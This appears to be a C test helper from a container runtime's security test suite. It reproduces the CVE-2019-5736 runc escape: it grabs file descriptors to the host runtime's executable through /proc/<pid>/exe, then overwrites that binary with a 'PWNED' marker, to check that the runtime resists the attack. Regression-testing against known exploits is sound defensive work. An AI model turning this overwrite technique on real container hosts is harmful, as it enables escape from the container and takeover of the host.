/* tests/helpers/exe-grabber.c — the CVE-2019-5736 attacker for a shared pid
 * namespace (tests/security/test_joined_pidns.sh).
 *
 *   exe-grabber DIR SIZE
 *
 * Runs in a container with CAP_SYS_PTRACE. It scans /proc without pause, and for
 * every process that appears in its pid namespace keeps an O_PATH fd of
 * /proc/<pid>/exe when that file is SIZE bytes long (the runtime binary it hunts:
 * an attacker knows what the runtime it targets looks like). Each time the test
 * creates DIR/round.N (after the runtime under test has exited), it tries to open
 * every fd kept for writing through /proc/self/fd (retrying on ETXTBSY for a
 * while, as runc's public PoC does: the binary is busy while someone runs it),
 * writes "PWNED" over its first bytes, and reports in DIR/done.N:
 *   "grabbed G wrote W last-error E"
 * It writes a "ready" file once its first scan is done. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 4096
#define MAX_GRABS 256

static char seen[MAX_PIDS];
static int grabs[MAX_GRABS];
static int n_grabs;

static void grab(int pid, off_t want_size)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return; /* gone, a kernel thread, or denied: look again next scan */
	seen[pid] = 1;
	if (fstat(fd, &st) < 0 || st.st_size != want_size || n_grabs == MAX_GRABS) {
		close(fd);
		return;
	}
	grabs[n_grabs++] = fd;
}

static void scan(off_t want_size)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid < MAX_PIDS && !seen[pid] && pid != getpid())
			grab(pid, want_size);
	}
	closedir(d);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Open fd's file for writing through the magic link; 0 or the last errno. */
static int overwrite(int fd)
{
	char path[64];
	double until = now() + 3;
	int w;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (;;) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0)
			break;
		if (errno != ETXTBSY || now() > until)
			return errno;
		usleep(1000);
	}
	if (pwrite(w, "PWNED", 5, 0) != 5) {
		int e = errno;
		close(w);
		return e;
	}
	close(w);
	return 0;
}

static void attack(const char *dir, int round)
{
	char path[4096], tmp[4096];
	int wrote = 0, last = 0;
	FILE *f;

	for (int i = 0; i < n_grabs; i++) {
		int e = overwrite(grabs[i]);
		if (e == 0)
			wrote++;
		else
			last = e;
	}
	/* written aside, then renamed: the test reads it as soon as it exists */
	snprintf(tmp, sizeof tmp, "%s/.done.%d", dir, round);
	snprintf(path, sizeof path, "%s/done.%d", dir, round);
	f = fopen(tmp, "w");
	if (!f)
		return;
	fprintf(f, "grabbed %d wrote %d last-error %s\n", n_grabs, wrote, last ? strerror(last) : "none");
	fclose(f);
	rename(tmp, path);
}

int main(int argc, char **argv)
{
	char path[4096];
	off_t want;
	int round = 1;

	if (argc != 3)
		return 2;
	want = (off_t)atoll(argv[2]);
	scan(want);
	snprintf(path, sizeof path, "%s/ready", argv[1]);
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	for (unsigned long i = 0;; i++) {
		scan(want);
		/* a stat every 64 scans keeps the scan loop tight */
		if (i % 64)
			continue;
		snprintf(path, sizeof path, "%s/round.%d", argv[1], round);
		if (access(path, F_OK) == 0)
			attack(argv[1], round++);
	}
}
